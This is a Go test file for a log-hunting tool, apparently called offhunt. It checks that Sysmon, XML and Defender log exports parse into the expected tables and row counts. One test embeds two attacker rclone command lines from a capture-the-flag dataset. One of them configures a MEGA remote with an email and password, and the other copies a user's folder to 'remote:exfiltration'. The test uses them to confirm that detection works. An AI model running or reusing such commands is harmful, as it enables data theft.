package logs

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"offhunt/detect/data"
	"offhunt/internal/shared"
)

// The tests below read the public log data in ../shared/data. Their
// expected counts are computed here with other readers (encoding/csv,
// encoding/json, plain line counts), never taken from offhunt's own.

// independentCount counts a file's records and its process creations
// (Sysmon 1, Security 4688) with the standard library.
type independentCount struct {
	records, process int
}

func countCSV(t *testing.T, path string, sep rune, lazy bool) independentCount {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	r := csv.NewReader(f)
	r.Comma, r.LazyQuotes, r.FieldsPerRecord = sep, lazy, -1
	if lazy {
		// cmdlines.tsv writes quotes as plain text: read it line by line.
		b, _ := os.ReadFile(path)
		n := 0
		for _, l := range strings.Split(strings.TrimRight(string(b), "\n"), "\n") {
			if l != "" {
				n++
			}
		}
		return independentCount{records: n - 1}
	}
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return independentCount{records: len(recs) - 1}
}

// eventID finds a Windows event's id in any of the JSON shapes.
func eventID(m map[string]any) float64 {
	if ev, ok := m["Event"].(map[string]any); ok {
		m = ev
	}
	if sys, ok := m["System"].(map[string]any); ok {
		switch id := sys["EventID"].(type) {
		case float64:
			return id
		case map[string]any:
			v, _ := id["Value"].(float64)
			return v
		}
	}
	switch id := m["EventID"].(type) {
	case float64:
		return id
	case string:
		var f float64
		json.Unmarshal([]byte(id), &f)
		return f
	}
	return 0
}

func countJSON(t *testing.T, path string) independentCount {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var c independentCount
	add := func(m map[string]any) {
		c.records++
		if id := eventID(m); id == 1 || id == 4688 {
			c.process++
		}
	}
	dec := json.NewDecoder(bytes.NewReader(b))
	for {
		var v any
		if err := dec.Decode(&v); err == io.EOF {
			break
		} else if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		switch v := v.(type) {
		case []any:
			for _, e := range v {
				add(e.(map[string]any))
			}
		case map[string]any:
			add(v)
		}
	}
	return c
}

func countXML(t *testing.T, path string) independentCount {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return independentCount{
		records: bytes.Count(b, []byte("<Event ")),
		process: bytes.Count(b, []byte(">1</EventID>")),
	}
}

// TestSharedData opens every log file of ../shared/data (EVTX aside: it is
// refused with its own message) and checks its table, its row count and
// that no row was bad. The Sigma rules (.yaml) and the README are not logs.
func TestSharedData(t *testing.T) {
	dir := filepath.Join(shared.Dir(t), "data")
	var files []string
	err := filepath.Walk(dir, func(path string, info os.FileInfo, err error) error {
		if err == nil && !info.IsDir() {
			files = append(files, path)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	sort.Strings(files)
	checked := 0
	for _, path := range files {
		rel, _ := filepath.Rel(dir, path)
		ext := filepath.Ext(path)
		if ext == ".yaml" || ext == ".md" {
			continue
		}
		t.Run(rel, func(t *testing.T) {
			ins, err := Open(path, fileOpener(path), Options{})
			if ext == ".evtx" {
				if err == nil || !strings.Contains(err.Error(), "EVTX binary logs are not supported yet") {
					t.Errorf("EVTX: %v", err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			in := ins[0]
			var want independentCount
			schema := "DeviceProcessEvents"
			switch {
			case rel == "cmdlines.tsv":
				want, schema = countCSV(t, path, '\t', true), "cmdlines"
			case ext == ".csv":
				want = countCSV(t, path, ',', false)
				if strings.HasPrefix(filepath.Base(path), "plaso") {
					// A union of several tables' columns fits none of them.
					schema = "plaso_advanced_hunting_test"
				}
			case ext == ".xml":
				want = countXML(t, path)
			case strings.HasSuffix(path, ".meta.json"):
				want, schema = independentCount{records: 1}, "process_creation_events.meta"
			default:
				want = countJSON(t, path)
			}
			rep := report(t, in)
			if rep.Schema != schema {
				t.Errorf("schema %q, want %q (format %s)", rep.Schema, schema, rep.Format)
			}
			if rep.Rows != int64(want.records) || rep.BadRows != 0 {
				t.Errorf("rows %d, bad %d %v; want %d rows", rep.Rows, rep.BadRows, rep.BadRowSamples, want.records)
			}
			if schema == "DeviceProcessEvents" && in.mapper != nil {
				if got := len(scanAll(t, table(t, in, schema), nil)); got != want.process {
					t.Errorf("DeviceProcessEvents rows %d, want %d process creations", got, want.process)
				}
				if got := len(scanAll(t, in.StemSource(), nil)); got != want.records {
					t.Errorf("stem rows %d, want %d", got, want.records)
				}
			}
			if schema == "DeviceProcessEvents" && !rep.HasTime {
				t.Errorf("no event times")
			}
			checked++
		})
	}
	if checked < 12 {
		t.Errorf("checked %d files; the data folder should hold at least 12 logs", checked)
	}
}

// The two rclone process creations of the Packet Cyclone CTF, as the
// challenge's Sigma rules and the data's README describe them.
var rcloneCommandLines = []string{
	`"C:\Users\wade\AppData\Local\Temp\rclone-v1.61.1-windows-amd64\rclone.exe" config create remote mega user majmeret@protonmail.com pass FBMeavdiaFZbWzpMqIVhJCGXZ5XXZI1qsU3EjhoKQw0rEoQqHyI`,
	`"C:\Users\wade\AppData\Local\Temp\rclone-v1.61.1-windows-amd64\rclone.exe" copy C:\Users\Wade\Desktop\Relic_location\ remote:exfiltration -v`,
}

// TestRcloneEvents checks that the two rclone runs of Packet Cyclone come
// out of each of its exports as DeviceProcessEvents rows, exactly.
func TestRcloneEvents(t *testing.T) {
	dir := filepath.Join(shared.Dir(t), "data")
	for _, rel := range []string{
		"packet-cyclone/sysmon_all.ndjson",
		"packet-cyclone/sysmon_all.xml",
		"htb-velociraptor/Microsoft-Windows-Sysmon%4Operational.evtx.txt",
	} {
		t.Run(rel, func(t *testing.T) {
			path := filepath.Join(dir, rel)
			ins, err := Open(path, fileOpener(path), Options{})
			if err != nil {
				t.Fatal(err)
			}
			src := table(t, ins[0], "DeviceProcessEvents")
			var got []string
			for _, r := range scanAll(t, src, nil) {
				if col(t, src, r, "FileName").S != "rclone.exe" {
					continue
				}
				got = append(got, col(t, src, r, "ProcessCommandLine").S)
				if ts := col(t, src, r, "Timestamp"); ts.K != data.KDateTime || !strings.HasPrefix(data.FormatDateTime(ts.I), "2023-02-24T15:35:") {
					t.Errorf("Timestamp %v", ts)
				}
				if h := col(t, src, r, "SHA256").S; h != "e94901809ff7cc5168c1e857d4ac9cbb339ca1f6e21dcce95dfb8e28df799961" {
					t.Errorf("SHA256 %q", h)
				}
				if p := col(t, src, r, "InitiatingProcessFileName").S; p == "" {
					t.Errorf("no parent")
				}
			}
			if strings.Join(got, "\n") != strings.Join(rcloneCommandLines, "\n") {
				t.Errorf("rclone command lines\n got %q\nwant %q", got, rcloneCommandLines)
			}
		})
	}
}

// TestRealDefenderExports checks the columns of the two Defender exports:
// every time is typed, AdditionalFields is dynamic.
func TestRealDefenderExports(t *testing.T) {
	dir := filepath.Join(shared.Dir(t), "data", "defender-exports")
	for _, file := range []string{"dafneb_advanced_hunting_test.csv", "plaso_advanced_hunting_test.csv"} {
		t.Run(file, func(t *testing.T) {
			path := filepath.Join(dir, file)
			ins, err := Open(path, fileOpener(path), Options{})
			if err != nil {
				t.Fatal(err)
			}
			src := ins[0].Tables()[0].Source
			ts := data.ColumnIndex(src.Columns(), "Timestamp")
			af := data.ColumnIndex(src.Columns(), "AdditionalFields")
			if ts < 0 || src.Columns()[ts].Type != data.DateTime || af < 0 || src.Columns()[af].Type != data.Dynamic {
				t.Fatalf("columns: %s", colTypes(src.Columns()))
			}
			bags := 0
			for i, r := range scanAll(t, src, nil) {
				if r[ts].K != data.KDateTime {
					t.Errorf("row %d: Timestamp %v", i+1, r[ts])
				}
				if r[af].K == data.KBag {
					bags++
				}
			}
			if bags == 0 {
				t.Errorf("no AdditionalFields was read as JSON")
			}
		})
	}
}
